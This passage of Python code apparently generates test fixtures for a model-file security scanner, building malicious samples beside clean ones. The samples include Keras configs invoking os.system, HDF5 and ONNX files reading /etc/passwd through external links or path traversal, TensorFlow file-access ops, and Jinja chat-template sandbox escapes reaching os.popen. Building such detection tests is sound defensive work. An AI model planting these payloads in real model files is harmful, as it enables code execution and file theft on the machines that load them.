    lambda_layer = {"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": function}}}}
    def keras_zip(layer):
        return zip_of([("metadata.json", json.dumps({"keras_version": "3.0.0"})), ("config.json", json.dumps({"module": "keras", **sequential(layer)})), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(600))])
    def h5(layer, key="model_config"):
        return b"\x89HDF\r\n\x1a\n" + bytes(700) + key.encode() + bytes(40) + json.dumps(sequential(layer)).encode() + bytes(64)
    def keras_config(config):
        return zip_of([("metadata.json", json.dumps({"keras_version": "3.0.0"})), ("config.json", json.dumps(config)), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(600))])
    def h5_beside_another(config):
        return b"\x89HDF\r\n\x1a\n" + bytes(700) + b"model_config" + bytes(40) + config.encode() + bytes(8) + json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}}).encode() + bytes(64)
    old_lambda = json.dumps({"class_name": "Sequential", "z": 0, "config": {"layers": [{"class_name": "Lambda", "z": 0, "config": {"name": "l", "z": 0, "function": [function, None, None]}}]}})
    escaped = json.dumps(sequential(lambda_layer)).replace('"Lambda"', '"L\\u0061mbda"').encode()
    return {
        "lambda.keras": keras_zip(lambda_layer), "lambda.h5": h5(lambda_layer), "lambda_escaped.h5": b"\x89HDF\r\n\x1a\n" + bytes(700) + b"model_config" + bytes(40) + escaped + bytes(64),
        "module.keras": keras_zip({"module": "os", "class_name": "system", "config": COMMAND}), "get_file.keras": keras_zip({"module": "keras.utils", "class_name": "function", "config": "get_file"}),
        "custom.h5": h5({"class_name": "RunsCode", "config": {}}), "hidden_config.h5": b"\x89HDF\r\n\x1a\n" + bytes(700) + b"model_config" + bytes(99), "tfsm.keras": keras_zip({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}}),
        "torch_wrapper.keras": keras_zip({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "x"}}), "lambda_user_block.h5": bytes(512) + h5(lambda_layer),
        "endless.h5": b"\x89HDF\r\n\x1a\n" + bytes(700) + b"model_config" + b'{"a":' * 2_000_000,
        "pytables.h5": b"\x89HDF\r\n\x1a\n" + bytes(700) + b"PYTABLES_FORMAT_VERSION" + bytes(99),
        "no_class.keras": keras_config({"a": lambda_layer}), "no_class_module.keras": keras_config({"a": {"module": "os", "class_name": "system", "config": COMMAND}}), "list.keras": keras_config([lambda_layer]),
        "nan.h5": h5_beside_another(old_lambda.replace('"z": 0', '"z": NaN')), "key_twice.h5": h5_beside_another(old_lambda.replace('"z": 0', '"z": 1, "z": 2')),
        "spaces.h5": h5_beside_another(old_lambda.replace("{", "{" + " " * 40)),
        "vocabulary.keras": keras_zip({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}),
    }


def hdf5_tricks(folder):
    """HDF5 files that have their reader open other files, in the oldest and the newest form of the format."""
    import h5py

    def external(file, path="/etc/passwd"):
        file.create_dataset("a/kernel", shape=(100,), dtype="u1", external=[(path, 0, 100)])
    def link(file):
        file["layers"] = h5py.ExternalLink("/other.h5", "/x")
    def many_links(file):
        group = file.create_group("layers", track_order=True)
        for i in range(30):
            group[f"layer{i}"] = h5py.ExternalLink("other.h5", "/x")
    def virtual(file):
        layout = h5py.VirtualLayout(shape=(4,), dtype="f8")
        layout[:] = h5py.VirtualSource("other.h5", "d", shape=(4,))
        file.create_virtual_dataset("v", layout)
    files = {}
    for form in ("earliest", "latest"):
        for name, make in (("external", external), ("link", link), ("many_links", many_links), ("virtual", virtual)):
            path = folder / f"hdf5_{name}_{form}.h5"
            with h5py.File(path, "w", libver=form, userblock_size=512 if name == "external" else 0) as file:
                make(file)
            files[path.name] = path.read_bytes()
    sizes = h5py.h5p.create(h5py.h5p.FILE_CREATE)
    sizes.set_sizes(4, 4)
    with h5py.File(h5py.h5f.create(str(folder / "hdf5_short_addresses.h5").encode(), fcpl=sizes)) as file:
        external(file)
    with h5py.File(folder / "long_config.h5", "w") as file:
        layer = {"class_name": "Lambda", "config": {"name": "l" * (33 << 20), "function": ["4wA=", None, None]}}
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}})
        file.attrs["other"] = json.dumps({"class_name": "Sequential", "config": {"layers": []}})
    files["long_config.h5"] = (folder / "long_config.h5").read_bytes()
    files["hdf5_short_addresses.h5"] = (folder / "hdf5_short_addresses.h5").read_bytes()
    files["hdf5_external.keras"] = zip_of([("metadata.json", "{}"), ("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}})), ("model.weights.h5", files["hdf5_external_latest.h5"])])
    return files


def field(number, value):
    """One field of a protobuf."""
    def varint(count):
        out = b""
        while count > 0x7F:
            out, count = out + bytes([count & 0x7F | 0x80]), count >> 7
        return out + bytes([count])
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def saved_model(*operators, functions=(), constants=()):
    nodes = b"".join(field(1, field(1, f"n{i}") + field(2, op)) for i, op in enumerate(operators))
    nodes += b"".join(field(1, field(1, f"c{i}") + field(2, "Const") + field(5, field(1, "value") + field(2, field(8, field(1, 7) + field(8, text))))) for i, text in enumerate(constants))
    library = b"".join(field(1, field(1, field(1, name)) + field(3, field(1, "n") + field(2, op))) for name, op in functions)
    return field(1, 1) + field(2, field(2, nodes + (field(2, library) if library else b"")))


def onnx_tensor(location):
    return field(1, 1) + field(2, 1) + field(8, "w") + field(13, field(1, "location") + field(2, location)) + field(14, 1)


def onnx_model(nodes=(("Add", ""),), location=None, graph_in_node=False, function=None, training=b""):
    def node(op, domain):
        return field(1, "a") + field(2, "b") + field(4, op) + (field(7, domain) if domain else b"")
    graph = b"".join(field(1, node(*entry)) for entry in nodes)
    if location is not None:
        graph += field(5, onnx_tensor(location))
    if graph_in_node:
        graph = field(1, node("If", "") + field(5, field(1, "then_branch") + field(6, graph)))
    own = field(25, field(1, function[1]) + field(7, node("Add", "")) + field(10, function[0]) + function[2]) if function else b""
    return field(1, 8) + field(7, graph + field(2, "g")) + field(8, field(2, 17)) + training + own


def graph_tricks():
    tf = {"read": ("ReadFile",), "write": ("WriteFile",), "matching": ("MatchingFiles",), "py_func": ("PyFunc",), "eager_py_func": ("EagerPyFunc",), "custom": ("MyCustomOp",), "print": ("PrintV2",), "dataset": ("TextLineDataset",)}
    files = {f"tf_{name}/saved_model.pb": saved_model("Const", "MatMul", *ops) for name, ops in tf.items()}
    files["tf_function/saved_model.pb"] = saved_model("PartitionedCall", functions=[("f", "WriteFile")])
    files["tf_path/saved_model.pb"] = saved_model("SaveV2", constants=["/root/.bashrc"])
    packed = field(8, field(1, 7) + field(4, b"\x05\x0dmodel/root/.bashrc"))
    files["tf_packed_path/saved_model.pb"] = field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "SaveV2")) + field(1, field(1, "c") + field(2, "Const") + field(5, field(1, "value") + field(2, packed)))))
    files["tf_cut/saved_model.pb"] = saved_model("Const", "MatMul")[:-3]
    files["tf_keras/keras_metadata.pb"] = field(1, field(5, json.dumps({"class_name": "Lambda", "config": {}})))
    files |= {"onnx_parent.onnx": onnx_model(location="../../../etc/passwd"), "onnx_absolute.onnx": onnx_model(location="/etc/passwd"), "onnx_custom.onnx": onnx_model(nodes=[("Run", "evil.ops")]),
              "onnx_nested.onnx": onnx_model(nodes=[("Run", "evil.ops")], graph_in_node=True), "onnx_nested_path.onnx": onnx_model(location="a/../../x", graph_in_node=True), "onnx_cut.onnx": onnx_model()[:-6], "onnx_empty.onnx": b"",
              "onnx_other_of_domain.onnx": onnx_model(nodes=[("Run", "evil.ops")], function=("evil.ops", "Known", b"")), "onnx_default.onnx": onnx_model(function=("own", "Known", field(11, field(1, "a") + field(5, onnx_tensor("/etc/passwd"))))),
              "onnx_training.onnx": onnx_model(training=field(20, field(2, field(1, field(4, "Run") + field(7, "evil.ops")))))}
    return files


TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}", "attr_filter": "{{ ''|attr('__class__') }}", "attr_escaped": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "item": "{{ ''['__class__'] }}",
    "item_joined": "{{ ''['__cl' ~ 'ass__'] }}", "item_plus": "{{ ''['_' + '_class_' + '_'] }}", "by_name": "{% set a = '_' * 2 ~ 'class' ~ '_' * 2 %}{{ ''[a] }}", "globals": "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "cycler": "{{ cycler('a') }}", "lipsum": "{{ lipsum|string }}", "self": "{{ self._TemplateReference__context }}", "import": "{% import 'os' as os %}{{ os.system('true') }}", "include": "{% include '/etc/passwd' %}", "extends": "{% extends '/etc/passwd' %}",
    "from": "{% from 'x' import y %}", "namespace": "{{ namespace.__init__ }}", "range": "{{ range.__class__ }}", "map_attribute": "{{ messages|map(attribute='__class__')|list }}", "format": "{{ '{0.__class__}'.format(messages) }}",
    "map_by_name": "{% set a = '_' * 2 ~ 'class' ~ '_' * 2 %}{{ messages|map(attribute=a)|list }}", "map_attr": "{{ ['']|map('attr', a)|list }}", "letter": "{% set u = 'a_b'[1] %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}",
    "letter_of_name": "{% set s = 'a_b' %}{% set u = s[1] %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}",
    "format_joined": "{{ ('{0._' ~ '_class_' ~ '_}').format(messages) }}", "letter_by_number": "{% set u = '%c'|format(95) %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}",
    "letter_by_percent": "{% set u = '%c' % 95 %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}", "letter_of_keyword": "{% set u = dict(_=1)|first %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}",
    "letter_of_macro": "{% macro a_b() %}{% endmacro %}{% set u = a_b.name[1] %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}", "letter_of_function": "{% set u = (raise_exception|string)[15] %}{% set a = u ~ u ~ 'class' ~ u ~ u %}{{ ''[a] }}",
    "special_token": "{{ ''[bos_token] }}",
    "eval": "{{ eval('1') }}", "popen": "{{ x.popen('true') }}", "exception": "{{ raise_exception.__globals__ }}", "request": "{{ request.application }}", "config": "{{ config.items() }}", "open": "{{ open('/etc/passwd') }}", "in_block": "{% if ''.__class__ %}x{% endif %}",
    "in_set": "{% set x = messages.__class__ %}", "unclosed": "{% if x", "octal": "{{ ''['\\137\\137class\\137\\137'] }}", "selectattr": "{{ messages|selectattr('__class__')|list }}", "call": "{{ messages.sort.__call__() }}", "unknown_call": "{{ cmd('x') }}",
}


def gguf(path, template):
    import numpy
    from gguf import GGUFWriter

    writer = GGUFWriter(path, "llama")
    writer.add_chat_template(template)
    writer.add_tensor("a", numpy.ones((2, 32), dtype=numpy.float32))
    for part in (writer.write_header_to_file, writer.write_kv_data_to_file, writer.write_tensors_to_file, writer.close):
        part()
    return path.read_bytes()


def config_tricks(folder):
    files = {f"template_{name}/tokenizer_config.json": json.dumps({"chat_template": template}).encode() for name, template in TEMPLATES.items()}
    evil = TEMPLATES["subclasses"]
    files |= {
        "template_list/tokenizer_config.json": json.dumps({"chat_template": [{"name": "default", "template": "{{ 1 }}"}, {"name": "tool_use", "template": evil}]}).encode(),
        "chat_template.jinja": evil.encode(), "template_processor/chat_template.json": json.dumps({"chat_template": evil}).encode(), "additional/chat_template.jinja": evil.encode(),
        "auto_map/config.json": json.dumps({"auto_map": {"AutoModel": "modeling.M"}}).encode(), "auto_map_deep/config.json": json.dumps({"text_config": {"auto_map": {"AutoModel": "x--y.M"}}}).encode(),
        "trust/config.json": json.dumps({"trust_remote_code": True}).encode(), "pipelines/config.json": json.dumps({"custom_pipelines": {"x": {"impl": "x.Y"}}}).encode(),
        "adapter/adapter_config.json": json.dumps({"auto_mapping": {"base_model_class": "M", "parent_library": "modeling_m"}}).encode(), "diffusers/model_index.json": json.dumps({"_class_name": "P", "unet": ["my_unet", "Unet"]}).encode(),
        "kernel/config.json": json.dumps({"model_type": "llama", "attn_implementation": "somebody/attention"}).encode(), "kernel_parts/config.json": json.dumps({"_attn_implementation": {"text_config": "somebody/attention@v1:layer"}}).encode(),
        "sentence/modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]).encode(), "sentence/2_Dense/config.json": json.dumps({"in_features": 4, "activation_function": "os.abort"}).encode(),
        "cross/config.json": json.dumps({"sentence_transformers": {"activation_fn": "os.abort"}}).encode(), "router/router_config.json": json.dumps({"types": {"a": "x.Y"}, "structure": {"query": ["a"]}}).encode(),
        "megatron/adapter_config.json": json.dumps({"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "antigravity"}).encode(), "keras_folder/config.json": json.dumps({"a": {"module": "os", "class_name": "system", "config": COMMAND}}).encode(),
        "modeling_x.py": b"import os\n", "notebook.ipynb": b'{"cells": []}', "setup.sh": b"#!/bin/sh\n", "run_as.txt": b"#!/bin/sh\ntrue\n", "library.so": b"\x7fELF\x02\x01\x01" + bytes(64), "elf_as.json": b"\x7fELF\x02\x01\x01" + bytes(64),
        "exe_as.bin": b"MZ\x90\x00" + bytes(64), "macho_as.txt": b"\xcf\xfa\xed\xfe" + bytes(64), "wasm_as.bin": b"\0asm\x01\0\0\0", "archive.7z": b"7z\xbc\xaf\x27\x1c" + bytes(32), "archive.rar": b"Rar!\x1a\x07\x01\x00", "unknown.xyz": b"?",
        "overlap.safetensors": (lambda h: struct.pack("<Q", len(h)) + h + bytes(8))(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'),
        "huge_header.safetensors": struct.pack("<Q", 1 << 60) + b"{}", "path_name.safetensors": (lambda h: struct.pack("<Q", len(h)) + h)(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'),
        "template.gguf": gguf(folder / "template.gguf", evil), "bounds.gguf": b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60), "latin1.txt": b"caf\xe9", "index/model.safetensors.index.json": json.dumps({"weight_map": {"a": "../../other.safetensors"}}).encode(), "duplicate_key.json": b'{"a":1,"a":2}',
    }
    return files


def harmful(folder):
    files = {f"gadget_{name}.pkl": data for name, data in GADGETS.items()}
    files |= {f"opcode_{name}.pkl": data for name, data in opcode_tricks().items()}
    files |= array_tricks() | joblib_tricks(folder) | container_tricks() | keras_tricks() | hdf5_tricks(folder) | zip_behind_hdf5(folder) | two_in_one(folder) | graph_tricks() | config_tricks(folder)
    return write(folder, files)


def write(folder, files):
    paths = {}
    for name, data in files.items():
        paths[name] = folder / name
        paths[name].parent.mkdir(parents=True, exist_ok=True)
        paths[name].write_bytes(data)
    return paths


# The last ones are written as templates of public models are.
CLEAN_TEMPLATES = {
    "prefix": "{%- macro to_python(spec) %}{%- set types = {'string': 'str'} %}{{- types[spec.type] }}{{- '    enum_' + loop.index0|string + ' = ' + spec.name }}{%- endmacro %}",
    "indented": "{%- set types = {'string': 'str'} %}{{- types[spec.type] }}{{- '\"tool_name\": \"'|indent(8, first=True) + call.name }}", "own_member": "{% set ns = namespace(system='') %}{% set ns.system = messages[0].content %}{{ ns.system + ' ' }}{{ messages[loop.index0] }}",
    "private_key": "{%- set block = fn.get('_json_block') -%}{{ prompts[state.index] }}{% if key == '_x' or '_y' in fn %}{{ block }}{% endif %}", "clock": "{%- if strftime_now is defined %}{{ strftime_now('%d %b %Y') }}{%- endif %}",
    "chatml": "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}",
    "llama": "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% endif %}"
             "{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate') }}{% endif %}{{ bos_token + '[INST] ' + message['content'].strip() + ' [/INST]' }}{% endfor %}",
    "tools": "{%- macro json_to_python_type(json_spec) %}{%- set basic = {'string': 'str', 'number': 'float'} %}{%- if basic[json_spec.type] is defined %}{{- basic[json_spec.type] }}{%- elif json_spec.type == 'array' %}{{- 'list[' + json_to_python_type(json_spec|items) + ']' }}{%- endif %}{%- endmacro %}"
             "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}{%- if ns.multi_step_tool and message.role == 'user' and not(message.content.startswith('<tool_response>') and message.content.endswith('</tool_response>')) %}{%- set ns.multi_step_tool = false %}{%- endif %}{%- endfor %}"
             "{%- for tool in tools %}{{- tool | tojson(indent=4) }}{%- for param, value in tool.function.parameters.properties.items() %}{{ param ~ ': ' ~ value['type'] }}{%- endfor %}{%- endfor %}{{ strftime_now('%d %b %Y') }}{{ messages | selectattr('role', 'equalto', 'user') | map(attribute='content') | join('\n') }}",
}


def torch_files(folder):
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.BatchNorm1d(16), torch.nn.Dropout(0.1), torch.nn.Linear(16, 2))
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.randn(4, 8)).sum().backward()
    optimizer.step()
    encoder = torch.nn.TransformerEncoder(torch.nn.TransformerEncoderLayer(8, 2, 16), 2, enable_nested_tensor=False)
    values = {"state_dict": model.state_dict(), "checkpoint": {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "loss": 0.5, "args": {"lr": 1e-3}}, "module": model,
              "tensors": {str(kind): torch.zeros(3).to(kind) for kind in (torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.uint8, torch.int64, torch.bool, torch.complex64)},
              "views": [torch.arange(10.0)[2:5], torch.randn(4, 4).t(), torch.nn.Parameter(torch.ones(2)), torch.Size([1, 2]), torch.device("cpu"), torch.float32], "encoder": encoder, "lstm": torch.nn.LSTM(4, 4, 2),
              "sparse": torch.eye(3).to_sparse(), "quantized": torch.quantize_per_tensor(torch.randn(4), 0.1, 2, torch.qint8), "empty": {}}
    paths = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, value in values.items():
            for suffix, zipped in ((".pt", True), (".legacy.bin", False)):
                path = folder / f"torch_{name}{suffix}"
                torch.save(value, path, _use_new_zipfile_serialization=zipped)
                paths[path.name] = path
        path = folder / "torch_pickled_tensor.pkl"
        path.write_bytes(pickle.dumps({"w": torch.arange(6.0)}, 4))
    paths[path.name] = path
    return paths


def sklearn_files(folder):
    import joblib
    import numpy
    from sklearn import cluster, compose, decomposition, ensemble, feature_extraction, feature_selection, gaussian_process, impute, linear_model, model_selection, naive_bayes, neighbors, neural_network, pipeline, preprocessing, svm, tree

    random = numpy.random.RandomState(0)
    X, y = random.normal(size=(60, 4)), numpy.arange(60) % 3
    models = {"logistic": linear_model.LogisticRegression(), "forest": ensemble.RandomForestClassifier(n_estimators=5, random_state=numpy.random.RandomState(1)), "boosting": ensemble.GradientBoostingClassifier(n_estimators=5),
              "hist": ensemble.HistGradientBoostingClassifier(max_iter=5), "svc": svm.SVC(), "knn": neighbors.KNeighborsClassifier(), "tree": tree.DecisionTreeClassifier(), "mlp": neural_network.MLPClassifier((4,), max_iter=5),
              "gp": gaussian_process.GaussianProcessClassifier(), "bayes": naive_bayes.GaussianNB(), "kmeans": cluster.KMeans(3), "pca": decomposition.PCA(2), "sgd": linear_model.SGDClassifier(),
              "pipeline": pipeline.make_pipeline(impute.SimpleImputer(), preprocessing.StandardScaler(), preprocessing.PolynomialFeatures(), linear_model.Ridge()),
              "columns": compose.ColumnTransformer([("a", preprocessing.StandardScaler(), [0, 1]), ("b", preprocessing.MinMaxScaler(), [2, 3])]), "search": model_selection.GridSearchCV(linear_model.Ridge(), {"alpha": [1, 2]}),
              "voting": ensemble.VotingClassifier([("a", tree.DecisionTreeClassifier()), ("b", naive_bayes.GaussianNB())]), "isolation": ensemble.IsolationForest(n_estimators=5),
              "scored": model_selection.GridSearchCV(tree.DecisionTreeClassifier(), {"max_depth": range(1, 3)}, scoring="f1_macro", cv=model_selection.ShuffleSplit(2, random_state=0)),
              "chosen": pipeline.make_pipeline(preprocessing.MinMaxScaler(), feature_selection.SelectKBest(feature_selection.chi2, k=2), preprocessing.FunctionTransformer(numpy.ceil), neighbors.KNeighborsClassifier(p=3))}
    paths = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, model in models.items():
            model.fit(X, y)
            for protocol in (2, 4, 5):
                path = folder / f"sklearn_{name}.{protocol}.pkl"
                path.write_bytes(pickle.dumps(model, protocol))
                paths[path.name] = path
            path = folder / f"sklearn_{name}.joblib"
            joblib.dump(model, path)
            paths[path.name] = path
        words = pipeline.make_pipeline(feature_extraction.text.TfidfVectorizer(), linear_model.LogisticRegression()).fit(["aa bb", "bb cc", "cc dd"] * 4, [0, 1, 1] * 4)
        for name, compress in (("none", 0), ("zlib", 3), ("gzip", ("gzip", 3)), ("bz2", ("bz2", 3)), ("xz", ("xz", 3)), ("lzma", ("lzma", 3)), ("lz4", ("lz4", 3))):
            path = folder / f"sklearn_words_{name}.joblib"
            joblib.dump({"model": words, "forest": models["forest"]}, path, compress=compress)
            paths[path.name] = path
    return paths


def numpy_files(folder):
    import joblib
    import numpy

    paths = {}
    arrays = {"floats": numpy.arange(12.0).reshape(3, 4), "empty": numpy.zeros((0, 3)), "scalar": numpy.array(5), "text": numpy.array(["a", "bcd"]), "half": numpy.zeros(5, "f2"), "structure": numpy.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
              "dates": numpy.array(["2020-01-01"], dtype="datetime64[D]"), "prices": numpy.zeros(3, dtype=[("Open", "f8"), ("Object", "i4"), ("High", [("O", "f4"), ("x", "u1", (2, 3))])]), "columns": numpy.zeros(2, dtype=[(f"c{i}", "f4") for i in range(200)]), "records": numpy.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]), "titled": numpy.zeros(2, dtype=[(("a title", "name"), "f4")]),
              "aligned": numpy.zeros(2, dtype=numpy.dtype([("a", "u1"), ("b", "f8")], align=True)), "spans": numpy.zeros(2, "m8[25s]"), "fortran": numpy.asfortranarray(numpy.ones((3, 4))), "big": numpy.zeros(4, ">f4"), "objects": numpy.array(["a", {"b": 1}, None], dtype=object), "void": numpy.zeros(2, "V7")}
    for name, array in arrays.items():
        numpy.save(folder / f"{name}.npy", array, allow_pickle=True)
        joblib.dump({"x": array, "y": [array, array.copy()]}, folder / f"{name}.joblib")
        (folder / f"numpy_{name}.pkl").write_bytes(pickle.dumps(array, 2) if name != "dates" else pickle.dumps(array, 4))
        paths |= {file: folder / file for file in (f"{name}.npy", f"{name}.joblib", f"numpy_{name}.pkl")}
    numpy.savez(folder / "arrays.npz", **{k: v for k, v in arrays.items() if k != "objects"})
    numpy.savez_compressed(folder / "compressed.npz", **arrays)
    (folder / "data.pkl").write_bytes(pickle.dumps({"a": [1, 2.5, None, True, b"x", (1, 2), {3}, frozenset([4]), bytearray(b"y"), 1 << 200, 1j], "r": numpy.random.default_rng(1)}, 5))
    (folder / "old.pkl").write_bytes(pickle.dumps({"a": [1, 2.5, None, True, b"x", "é", 1 << 200], "s": numpy.float32(1)}, 0))
    return paths | {name: folder / name for name in ("arrays.npz", "compressed.npz", "data.pkl", "old.pkl")}


def other_files(folder):
    import h5py
    import numpy
    import onnx
    from onnx import TensorProto, helper
    from safetensors.numpy import save_file

    save_file({"a": numpy.arange(4.0)}, folder / "model.safetensors")
    gguf(folder / "model.gguf", CLEAN_TEMPLATES["tools"])
    graph = helper.make_graph([helper.make_node("Gemm", ["x", "w"], ["y"])], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])],
                              [helper.make_tensor("w", TensorProto.FLOAT, [2, 2], [1.0] * 4)])
    onnx.save(helper.make_model(graph), folder / "model.onnx")
    with h5py.File(folder / "plain.weights.h5", "w") as file:
        file.create_dataset("a/kernel", data=numpy.ones((4, 4)), compression="gzip")
    os.environ["KERAS_BACKEND"] = "torch"
    import keras

    model = keras.Sequential([keras.layers.Input((4,)), keras.layers.Dense(8, activation="relu"), keras.layers.BatchNormalization(), keras.layers.Dropout(0.1), keras.layers.Dense(2, activation="softmax")])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    inputs = keras.Input((8, 8, 3))
    row = keras.Input((8,))
    hidden = keras.layers.Dense(8, activation="gelu")(row)
    operations = keras.Model(row, keras.ops.softmax((hidden + row)[:, :4] * 2.0))
    image = keras.Model(inputs, keras.layers.Dense(2)(keras.layers.Flatten()(keras.layers.Conv2D(4, 3)(inputs))))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model.save(folder / "model.keras")
        model.save(folder / "model.h5")
        operations.save(folder / "operations.keras")
        image.save(folder / "image.keras")
        image.save(folder / "image.h5")
        model.save_weights(folder / "model.weights.h5")
    files = {f"{name}/tokenizer_config.json": json.dumps({"chat_template": template}).encode() for name, template in CLEAN_TEMPLATES.items()}
    files |= {"infinite/config.json": b'{"time_step_limit": [0.0, Infinity], "x": -Infinity, "y": NaN, "note": "Infinity \\" NaN"}', "beside/model.onnx": onnx_model(location="model.onnx_data"), "beside/model.onnx_data": struct.pack("<4f", 1, 2, 3, 4),
              "dynamo/model.onnx": onnx_model(location="model.onnx.data"), "dynamo/model.onnx.data": struct.pack("<4f", 1, 2, 3, 4), "parts/model.onnx_data_1": struct.pack("<4f", 1, 2, 3, 4),
              "tf_packed/saved_model.pb": field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "SaveV2")) + field(1, field(1, "c") + field(2, "Const") + field(5, field(1, "value") + field(2, field(8, field(1, 7) + field(4, b"\x05\x2flayer" + b"kernel/.ATTRIBUTES/VARIABLE_VALUE".ljust(47, b"x")))))))),
              "external.onnx": onnx_model(location="weights/external.data"), "plain/chat_template.jinja": CLEAN_TEMPLATES["tools"].encode(), "tf/saved_model.pb": saved_model("Placeholder", "VarHandleOp", "MatMul", "StatefulPartitionedCall", "SaveV2", functions=[("f", "AddV2")], constants=["model"]),
              "config.json": b'{"model_type": "llama"}', "README.md": b"# A model\n", "vocab.txt": b"[PAD]\n[UNK]\n", "clean.zip": zip_of([("a/config.json", b"{}"), ("a/notes.txt", b"text")], compression=zipfile.ZIP_DEFLATED),
              "clean.tar.gz": gzip.compress(tar_of([("./config.json", b"{}")])), "numbers.pkl.gz": gzip.compress(pickle.dumps(list(range(1000)))),
              "sentence/modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Dense", "type": "sentence_transformers.base.modules.dense.Dense"}]).encode(),
              "sentence/1_Dense/config.json": json.dumps({"in_features": 4, "activation_function": "torch.nn.modules.activation.Tanh"}).encode(), "gpt2/config.json": json.dumps({"activation_function": "gelu_new", "attn_implementation": "flash_attention_2"}).encode(),
              "router/router_config.json": json.dumps({"types": {"a": "sentence_transformers.models.Transformer"}, "structure": {"query": ["a"]}}).encode(), "function.onnx": onnx_model(nodes=[("Known", "own.ops")], function=("own.ops", "Known", b"")),
              "torch_old/adapter_config.json": json.dumps({"auto_mapping": None, "peft_type": "LORA", "megatron_config": None, "megatron_core": "megatron.core"}).encode(),
              "peft/adapter_config.json": json.dumps({"auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}}).encode()}
    paths = {name: folder / name for name in ("model.safetensors", "model.gguf", "model.onnx", "plain.weights.h5", "model.keras", "model.h5", "operations.keras", "image.keras", "image.h5", "model.weights.h5")}
    return paths | write(folder, files)


def harmless(folder):
    return torch_files(folder) | sklearn_files(folder) | numpy_files(folder) | other_files(folder)
